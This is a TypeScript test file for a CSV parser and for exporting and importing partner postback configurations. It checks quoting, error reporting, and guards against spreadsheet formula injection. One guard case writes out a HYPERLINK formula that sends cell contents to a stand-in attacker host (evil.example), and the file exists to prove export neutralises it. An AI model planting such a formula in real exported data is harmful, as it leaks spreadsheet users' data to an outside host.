import { describe, expect, it } from "vitest";
import { CsvError, formatCsv, parseCsv } from "../../services/postback/csv.js";
import { newPartner, type PartnerConfig } from "../../services/postback/partner.js";
import { CSV_COLUMNS, partnersFromCsv, partnersToCsv } from "../../services/postback/partner-csv.js";

/** `line: message` of the CsvError `parseCsv` throws. */
function csvProblem(text: string): string {
  try {
    parseCsv(text);
  } catch (error) {
    if (error instanceof CsvError) return `${error.line}: ${error.message}`;
    throw error;
  }
  return "parsed";
}

describe("CSV", () => {
  it("reads quoted fields with commas, doubled quotes and line breaks, CRLF or LF, and skips blank lines", () => {
    expect(parseCsv('a,"b,c","say ""hi"""\r\n\r\n"multi\nline",,x\n')).toEqual([
      { line: 1, fields: ["a", "b,c", 'say "hi"'] },
      { line: 3, fields: ["multi\nline", "", "x"] },
    ]);
    // The line of a record is where it starts; a record after a quoted line break counts both lines.
    expect(parseCsv('"1\n2\n3",a\nnext').map((record) => record.line)).toEqual([1, 4]);
    expect(parseCsv("last,without,break")).toEqual([{ line: 1, fields: ["last", "without", "break"] }]);
    expect(parseCsv("a\rb")).toEqual([
      { line: 1, fields: ["a"] },
      { line: 2, fields: ["b"] },
    ]);
  });

  it("ignores a byte-order mark, keeps a quoted empty record, and reads nothing from nothing", () => {
    expect(parseCsv("\uFEFFpartner_id\r\n")).toEqual([{ line: 1, fields: ["partner_id"] }]);
    expect(parseCsv('""\n')).toEqual([{ line: 1, fields: [""] }]);
    expect(parseCsv(",\n")).toEqual([{ line: 1, fields: ["", ""] }]);
    expect(parseCsv("")).toEqual([]);
    expect(parseCsv("\n\r\n")).toEqual([]);
  });

  it("names the line of a quote that never closes and of text after a closing quote", () => {
    expect(csvProblem('a\n"open,\nstill open')).toBe("2: a quoted field is never closed");
    expect(csvProblem('a\n"x"y,z')).toBe('2: text after a closing quote; write a quote inside a quoted field as ""');
    expect(csvProblem('"a\nb"c')).toBe('2: text after a closing quote; write a quote inside a quoted field as ""');
    // A quote inside an unquoted field is text.
    expect(parseCsv('5" disk,x')[0]?.fields).toEqual(['5" disk', "x"]);
  });

  it("quotes only where needed, with CRLF line ends, and reads back what it writes", () => {
    const rows = [
      ["plain", "with,comma", 'with "quote"', "line\nbreak", " padded ", ""],
      ["ünïcode 😀", "\r", "'", "a=b"],
    ];
    const text = formatCsv(rows);
    expect(text).toBe('plain,"with,comma","with ""quote""","line\nbreak"," padded ",\r\nünïcode 😀,"\'\r",\',a=b\r\n');
    expect(parseCsv(text).map((record) => record.fields)).toEqual(rows);
  });

  // value, the cell an export writes for it. Every value reads back exactly.
  const guarded: [string, string][] = [
    ["plain", "plain"],
    ["", ""],
    ["=1+1", `"'=1+1"`],
    ['=HYPERLINK("https://evil.example/?q="&A1,"open")', `"'=HYPERLINK(""https://evil.example/?q=""&A1,""open"")"`],
    ["+1", `"'+1"`],
    ["-5", `"'-5"`],
    ["-", `"'-"`],
    ["@SUM(A1)", `"'@SUM(A1)"`],
    ["\t=1", `"'\t=1"`],
    ["\r=1", `"'\r=1"`],
    ["'", "'"],
    ["'abc", "'abc"],
    ["'=1", `"''=1"`],
    ["''=1", `"'''=1"`],
    ["'-5", `"''-5"`],
    ["' =1", "' =1"],
    ["it's", "it's"],
    ["a=b", "a=b"],
    ["1-2", "1-2"],
    [" =1", '" =1"'],
    ["=", `"'="`],
  ];

  it("writes formula cells as quoted text with one ' in front, and reads every value back exactly", () => {
    for (const [value, cell] of guarded) {
      expect(formatCsv([[value, "x"]]), JSON.stringify(value)).toBe(`${cell},x\r\n`);
      expect(parseCsv(formatCsv([[value, "x"]]))[0]?.fields, JSON.stringify(value)).toEqual([value, "x"]);
    }
  });

  it("removes only the guard it writes from a hand-written file", () => {
    expect(parseCsv("'=1,'+x,'abc,''=1,'-,'\r\n")[0]?.fields).toEqual(["=1", "+x", "'abc", "'=1", "-", "'"]);
  });
});

describe("partner CSV", () => {
  const header = "partner_id,name,enabled,timeout,max_attempts,initial_delay,max_delay,download_policy,install_enabled,install_url,install_method,install_body,install_headers";
  /** `line:partner:column` of each problem, in order. */
  const where = (text: string) => partnersFromCsv(text).problems.map((p) => `${p.line}:${p.partnerId}:${p.column}`);
  const messageAt = (text: string, column: string) => partnersFromCsv(text).problems.find((p) => p.column === column)?.message;

  it("writes one column per setting and per event part, and reads back every partner exactly", () => {
    expect(CSV_COLUMNS).toHaveLength(10 + 3 * 6);
    expect(CSV_COLUMNS.slice(10, 16)).toEqual(["download_enabled", "download_method", "download_url", "download_body", "download_content_type", "download_headers"]);
    const base = newPartner("acme.co-1");
    const partner: PartnerConfig = {
      ...base,
      name: "=Acme, \"Ltd\"",
      timeoutMs: 2_500,
      retry: { maxAttempts: 7, initialDelayMs: 90_000, maxDelayMs: 86_400_000 },
      downloadPolicy: "once",
      skipUnattributed: true,
      downloadRedirectUrl: "https://store.example/app",
      events: {
        ...base.events,
        install: {
          enabled: true,
          urlTemplate: "https://acme.example/i?c={stag_clickID}",
          method: "POST",
          bodyTemplate: '{"u":"{userID}","n":-1}',
          contentType: "application/json",
          headers: { "X-Key": "=secret", "X-Other": "two words" },
        },
      },
    };
    const text = partnersToCsv([partner, newPartner("plain")]);
    expect(text.split("\r\n")[0]).toBe(CSV_COLUMNS.join(","));
    expect(text).toContain("acme.co-1,\"'=Acme, \"\"Ltd\"\"\",true,2500ms,7,90s,1d,once,true,https://store.example/app,");
    const read = partnersFromCsv(text);
    expect(read.problems).toEqual([]);
    expect(read.partners).toEqual([
      { line: 2, partner },
      // The first record spans lines 2 and 3: its headers cell holds a line break.
      { line: 4, partner: newPartner("plain") },
    ]);
  });

  it("fills what a row leaves out from the defaults, in any column order and case", () => {
    const { partners, problems } = partnersFromCsv("INSTALL_URL,Partner_ID\nhttps://b.example/{stag},beta\n");
    expect(problems).toEqual([]);
    expect(partners[0]?.partner).toEqual({
      ...newPartner("beta"),
      events: { ...newPartner("beta").events, install: { enabled: false, urlTemplate: "https://b.example/{stag}", method: "GET", bodyTemplate: "", contentType: "", headers: {} } },
    });
    // A body without a content type is JSON.
    const posted = partnersFromCsv("partner_id,initial_delay,install_enabled,install_url,install_method,install_body\nb,30m,yes,https://b.example/,post,{}\n");
    expect(posted.problems).toEqual([]);
    expect(posted.partners[0]?.partner.events.install).toMatchObject({ enabled: true, method: "POST", contentType: "application/json" });
    expect(posted.partners[0]?.partner.retry).toEqual({ maxAttempts: 10, initialDelayMs: 1_800_000, maxDelayMs: 3_600_000 });
  });

  it("refuses a header row with unknown, missing or repeated columns before reading any row", () => {
    expect(where("partner_id,colour\nx,red\n")).toEqual(["1::colour"]);
    expect(messageAt("partner_id,colour\n", "colour")).toMatch(/^unknown column; known columns: partner_id, name, enabled, /);
    expect(partnersFromCsv("name\n").problems).toEqual([{ line: 1, partnerId: "", column: "partner_id", message: "the header row has no partner_id column" }]);
    expect(partnersFromCsv("partner_id,name,NAME\n").problems).toEqual([{ line: 1, partnerId: "", column: "", message: "a column is named twice" }]);
    expect(partnersFromCsv("").problems).toEqual([{ line: 1, partnerId: "", column: "", message: "the file is empty; the first row must name the columns" }]);
    expect(partnersFromCsv('partner_id\n"open').problems).toEqual([{ line: 2, partnerId: "", column: "", message: "a quoted field is never closed" }]);
    expect(partnersFromCsv('partner_id\n"open').partners).toEqual([]);
  });

  it("names the line, the partner and the column of every bad cell, all at once", () => {
    const text = [
      header,
      'alpha,Alpha,true,5s,3,1s,1m,once,true,https://a.example/i,GET,,"X-Key: 1\nX-Other: two"',
      "gamma_x,Gamma,maybe,soon,three,1s,1m,sometimes,true,https://c.example/{oops},PUT,,no colon",
      "alpha,Again,,,,,,,,,,,",
      "short,Short",
    ].join("\r\n");
    expect(where(text)).toEqual([
      "4:gamma_x:download_policy",
      "4:gamma_x:enabled",
      "4:gamma_x:install_method",
      "4:gamma_x:install_headers",
      "4:gamma_x:timeout",
      "4:gamma_x:max_attempts",
      "4:gamma_x:partner_id",
      "4:gamma_x:install_url",
      "5:alpha:partner_id",
      "6:short:",
    ]);
    const problems = partnersFromCsv(text).problems;
    const message = (line: number, column: string) => problems.find((p) => p.line === line && p.column === column)?.message;
    expect(message(4, "enabled")).toBe('"maybe" is not true or false');
    expect(message(4, "install_method")).toBe('"PUT" is not GET or POST');
    expect(message(4, "install_headers")).toBe('"no colon" is not "Name: value"');
    expect(message(4, "download_policy")).toBe('"sometimes" is not every or once');
    expect(message(4, "timeout")).toBe('"soon" is not a duration such as 10s, 500ms or 1h');
    expect(message(4, "max_attempts")).toBe('"three" is not a whole number');
    expect(message(4, "partner_id")).toMatch(/^"gamma_x" may hold only letters, digits/);
    expect(message(4, "install_url")).toMatch(/^position 19: unknown placeholder \{oops\}/);
    expect(message(5, "partner_id")).toBe('"alpha" is already on line 2');
    expect(message(6, "")).toBe("has 2 fields, the header has 13");
  });

  it("maps the partner's own checks to the columns a spreadsheet shows", () => {
    const text = `${header}\nslow,Slow,true,10m,0,1ms,2d,every,true,ftp://x.example/,GET,body,Host: evil\n`;
    expect(where(text)).toEqual([
      "2:slow:install_url",
      "2:slow:install_body",
      "2:slow:install_body",
      "2:slow:install_headers",
      "2:slow:timeout",
      "2:slow:max_attempts",
      "2:slow:initial_delay",
      "2:slow:max_delay",
    ]);
    expect(partnersFromCsv(text).problems.filter((p) => p.column === "install_body").map((p) => p.message)).toEqual([
      "only a POST sends a body; set the method to POST",
      expect.stringMatching(/^not valid JSON once filled in with sample values \(/),
    ]);
    expect(messageAt(text, "install_headers")).toBe('"Host" is set by Funnel and cannot be configured');
    expect(messageAt(text, "max_delay")).toBe("must be from initial_delay to 24h");
  });
});
